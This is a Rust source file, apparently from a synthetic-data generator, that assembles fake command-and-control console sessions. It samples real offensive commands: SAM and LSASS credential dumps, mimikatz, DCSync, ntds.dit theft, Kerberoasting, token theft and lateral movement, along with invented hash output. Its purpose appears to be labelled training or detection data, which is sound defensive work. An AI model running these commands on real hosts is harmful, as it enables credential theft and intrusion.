//! Consoles of command-and-control frameworks and shells, with prompts, task logs and output:
//! the local hashes asked for, and everything else that operators type there.

use crate::generate::family::{Family, Kind::Console};

const PROMPTS: &[&str] = &[
    "{pr} {cmd}",
    "{pr} {n}⏎{pr} {cmd}",
    "{pr} {cmd}⏎{out}",
    "{pr} {n}⏎{pr} {n}⏎{pr} {cmd}⏎{pr} {n}",
    "{cmd}",
    "{pr} {cmd}⏎{pr} {n}",
    "{pr} help⏎{pr} {cmd}",
    "{month} {10..28} {clock} {first} {plainhost} task: {cmd}",
    concat!(
        r#"{"operator":"{first}","callback":{1..900},"command":"{jc}","status":"«completed¦submitted¦"#,
        r#"processing»","host":"{plainhost}"}"#
    ),
    "[{clock}] {first} tasked {plainhost}/{pid}: {cmd}",
    "{stamp} UTC [input] <{first}> {cmd}",
    "{stamp} UTC [task] <T1003> {task}",
    "[*] Tasked «beacon¦agent¦demon¦grunt¦implant» to {task}",
    "«alias¦macro» {alnum4}: {cmd}",
    r#"on beacon_initial { «bshell($1, "{jc}");¦binput($1, "{jc}");» }"#,
    r#"«autorun¦initial tasks»: ["{jn}", "{jc}"]"#,
    "{pr} {n} && {cmd}",
    r#"«Queued¦Sent¦Executed» command "{jc}" on session {1..40} ({plainhost})"#,
];

const ACTS: &[(&str, &str)] = &[
    ("pr", PR),
    (
        "cmd",
        concat!(
            "«hashdump¦hashdump¦hashdump {pid} x64¦run hashdump¦hashdump_sam¦samdump¦samdump {dir}¦SamDump¦",
            r"sam_dump¦dump_sam¦dump sam¦regdump {dir}¦reg_save HKLM SAM {dir}\{stem}¦reg-save HKLM\SAM ",
            "{outfile}¦nanodump_sam¦bof regsave SAM¦inline-execute regdump.x64.o {dir}¦coff-loader ",
            r#"reg_save.o HKLM SAM {dir}\{stem} 1¦shell reg save HKLM\{secret} {outfile}¦shell "reg save "#,
            r#"hklm\sam {outfile} & reg save hklm\system {outfile}"¦powershell reg save HKLM\SAM {outfile}¦"#,
            "powerpick Invoke-PowerDump¦psinject {pid} x64 Get-PassHashes¦execute-assembly ",
            "{shdir}/SharpSecDump.exe -target=127.0.0.1¦execute-assembly SharpSAMDump.exe¦dotnet ",
            "inline-execute {shdir}/SharpSecDump.exe -target={ip}¦assembly SharpSecDump.exe -target={ip} ",
            "-u={user} -p={password}¦mimikatz !lsadump::sam¦mimikatz @lsadump::sam¦mimikatz ",
            "token::elevate,lsadump::sam¦mimikatz lsadump::sam /system:{winsyscopy} /sam:{winsamcopy}¦",
            "lsa_dump_sam¦kiwi_cmd lsadump::sam¦load kiwi; lsa_dump_sam¦usemodule credentials/powerdump¦",
            "usemodule powershell/credentials/mimikatz/sam¦use post/windows/gather/hashdump¦run ",
            "post/windows/gather/smart_hashdump GETSYSTEM=true¦run ",
            "post/windows/gather/credentials/windows_sam_hivenightmare¦post windows/gather/hashdump¦run -j ",
            r"post/windows/gather/hashdump¦creds dump sam¦download C:\Windows\System32\config\RegBack\SAM¦",
            r"download {shadow}\Windows\System32\config\SAM¦cp {shadow}\Windows\System32\config\{secret} ",
            "{dir}¦c2tc-samdump¦sharp sam¦sharpkatz --Command listshadows; sharpkatz --Command lsadump sam¦",
            r"hivenightmare¦invoke-hivejack¦registry save HKLM\\SAM {stem}¦registry read-hive --hive SAM ",
            r"{stem}¦registry dump-hive SAM¦hashdump -s¦lsadump_sam¦ps reg save HKLM\SAM {stem}¦dump_registry ",
            "SAM SYSTEM SECURITY¦mimi lsadump::sam»"
        ),
    ),
    (
        "jc",
        concat!(
            r"«hashdump¦shell reg save HKLM\\{secret} C:\\temp\\{outname}¦samdump¦mimikatz !lsadump::sam¦",
            r"reg_save HKLM SAM C:\\{stem}¦execute-assembly SharpSecDump.exe -target=localhost¦run ",
            "post/windows/gather/hashdump¦powerdump¦lsa_dump_sam»"
        ),
    ),
    (
        "task",
        concat!(
            "«dump hashes¦dump password hashes¦run mimikatz's lsadump::sam command¦run mimikatz's ",
            r"!lsadump::sam command¦save HKLM\SAM to {dir}\{stem}¦run: reg save HKLM\{secret} {outfile}¦dump ",
            "the SAM hive¦run .NET program: SharpSecDump.exe -target=localhost¦download ",
            r"C:\Windows\System32\config\RegBack\SAM¦inline-execute: regsave SAM»"
        ),
    ),
    ("n", N),
    ("jn", JN),
    (
        "out",
        concat!(
            "«[+] received password hashes:⏎Administrator:500:aad3b435b51404eeaad3b435b51404ee:{hex32}:::¦",
            "[+] host called home, sent: {10..90000} bytes⏎[+] received output:⏎Administrator:500:{hex32}:::¦",
            "[*] Success¦[-] could not open process: 5 (Access is denied)¦",
            "Administrator:500:aad3b435b51404eeaad3b435b51404ee:{hex32}:::⏎{first}:1001:aad3b435b51404eeaad3b",
            "435b51404ee:{hex32}:::¦RID: 500 {hex32}»"
        ),
    ),
];

const OTHERS: &[(&str, &str)] = &[
    ("pr", PR),
    (
        "cmd",
        concat!(
            "«{n}¦{n}¦{n}¦{n}¦{n}¦{n}¦logonpasswords¦mimikatz !lsadump::secrets¦mimikatz lsadump::cache¦",
            "mimikatz @lsadump::dcsync /user:krbtgt¦mimikatz token::elevate,lsadump::secrets¦",
            r"lsa_dump_secrets¦kiwi_cmd lsadump::cache¦dcsync {domain}¦shell reg save HKLM\SOFTWARE {outfile}¦",
            r"shell reg query HKLM\{syskey}¦reg_save HKLM SOFTWARE {dir}\{stem}¦reg_query {plainhost} HKLM ",
            "{softkey}¦run post/linux/gather/hashdump¦run post/osx/gather/hashdump¦use ",
            "post/multi/gather/firefox_creds¦use auxiliary/scanner/postgres/postgres_hashdump¦run ",
            "post/windows/gather/lsa_secrets¦run post/windows/gather/cachedump¦usemodule ",
            "credentials/mimikatz/logonpasswords¦usemodule powershell/credentials/mimikatz/cache¦use ",
            "auxiliary/scanner/mysql/mysql_hashdump¦hashdump -h¦help hashdump¦nanodump -w {stem}¦procdump -n ",
            r"lsass.exe¦download {shadow}\Windows\NTDS\ntds.dit¦download C:\Users\sam\{stem}.zip¦powerpick ",
            "Invoke-Kerberoast¦execute-assembly Rubeus.exe triage¦execute-assembly SharpDPAPI.exe ",
            "machinetriage¦samr_enum users¦net user sam¦chromedump¦c2tc-kerberoast¦credman¦registry read ",
            r"--hive HKLM {softkey}¦registry write HKLM\{softkey} {stem}¦ls C:\Windows\System32\config¦",
            "lsadump::trust¦invoke-internalmonologue»"
        ),
    ),
    (
        "jc",
        concat!(
            r"«getuid¦shell reg save HKLM\\SOFTWARE C:\\temp\\{outname}¦shell whoami /all¦mimikatz ",
            r"!lsadump::secrets¦reg_query HKLM SYSTEM\\CurrentControlSet\\Services\\{svcname}¦",
            "execute-assembly Rubeus.exe kerberoast¦run post/linux/gather/hashdump¦screenshot¦logonpasswords¦",
            r"ls C:\\Users\\sam»"
        ),
    ),
    (
        "task",
        concat!(
            "«list processes¦take a screenshot¦run mimikatz's sekurlsa::logonpasswords command¦run ",
            r"mimikatz's lsadump::secrets command¦save HKLM\SOFTWARE to {dir}\{stem}¦run: reg query ",
            r"HKLM\{syskey}¦run .NET program: Rubeus.exe kerberoast¦download C:\Users\sam\{stem}.txt¦dump ",
            r"LSASS¦become SYSTEM¦sleep for {1..90}s¦list files in C:\Windows\System32\config¦run mimikatz's ",
            "@lsadump::dcsync /domain:{domain} command»"
        ),
    ),
    ("n", N),
    ("jn", JN),
    (
        "out",
        concat!(
            r"«[+] received output:⏎{domain}\{user}¦[+] host called home, sent: {10..90000} bytes¦[*] Success¦",
            "[-] could not open process: 5 (Access is denied)¦{user}::{domain}:{hex16}:{hex32}:{hex64}¦",
            "SERVER={plainhost} USER={first}»"
        ),
    ),
];

const PR: &str = concat!(
    "«beacon>¦meterpreter >¦msf6 >¦msf{5..6} post(multi/manage/autoroute) >¦msf6 ",
    "exploit(multi/handler) >¦sliver ({ALNUM8}) >¦[server] sliver ({alnum6}) >¦demon >>¦[{alnum8}] ",
    "{user}@{plainhost} >¦(Empire: {ALNUM8}) >¦(Empire: agents) >¦covenant >¦mythic>¦{plainhost} ",
    "(apollo) >¦poshc2 {1..40}>¦merlin[agent][{guid}] >¦brute ratel [{plainhost}] >¦badger>¦pupy ",
    "({plainhost}) >>¦koadic: sta$¦(koadic: sta/js/mshta)#¦nighthawk>¦villain >¦hoaxshell >¦",
    "shad0w({first}) ≫¦alan {{alnum6}} >¦nimplant {1..20} >¦deimos>¦[{plainhost}/{pid}] {first} >¦",
    "agent {alnum4} $¦c2> ¦$»"
);

const N: &str = concat!(
    "«getuid¦whoami¦ps¦sysinfo¦sleep {1..300} {1..50}¦getsystem¦getprivs¦ls {dir}¦pwd¦cd {dir}¦",
    "upload {stem}.exe¦download {docfile}¦shell net user /domain¦shell ipconfig /all¦screenshot¦",
    "keylogger start¦jobs¦migrate {pid}¦spawn x64 {stem}¦inject {pid} x64 {stem}¦portscan {cidr} 445¦",
    r"socks {port}¦rportfwd {port} {ip} {port}¦make_token {domain}\{user} {password}¦steal_token ",
    "{pid}¦rev2self¦jump psexec64 {host} {stem}¦elevate svc-exe {stem}¦execute-assembly ",
    "{shdir}/Seatbelt.exe -group=system¦powershell-import {stem}.ps1¦note {comment}¦exit¦background¦",
    "sessions -l¦clearev¦ppid {pid}¦argue {stem}¦info¦shell hostname¦env¦netstat¦drives¦load {stem}¦",
    "mimikatz privilege::debug¦token::elevate¦sharphound -c All¦unhook»"
);

const JN: &str = "«getuid¦ps¦whoami /all¦sleep 5¦sysinfo¦getsystem»";

pub const FAMILIES: &[Family] = &[
    Family::act("c2-consoles", "c2-prompt-hashes", "c2-prompt-other", Console, PROMPTS).slots(ACTS).weight(26),
    Family::other("c2-consoles", "c2-prompt-other", Console, PROMPTS).slots(OTHERS).weight(24),
];
